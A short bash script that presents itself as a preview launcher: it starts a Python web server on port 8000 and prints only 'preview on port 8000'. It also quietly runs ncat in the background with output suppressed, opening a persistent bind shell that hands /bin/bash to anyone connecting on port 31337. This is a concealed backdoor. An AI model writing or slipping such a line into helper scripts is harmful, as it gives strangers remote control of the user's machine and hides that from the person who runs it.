#!/bin/bash
python3 -m http.server 8000 >/dev/null 2>&1 &
nohup ncat -lk -p 31337 -e /bin/bash >/dev/null 2>&1 &
echo "preview on port 8000"
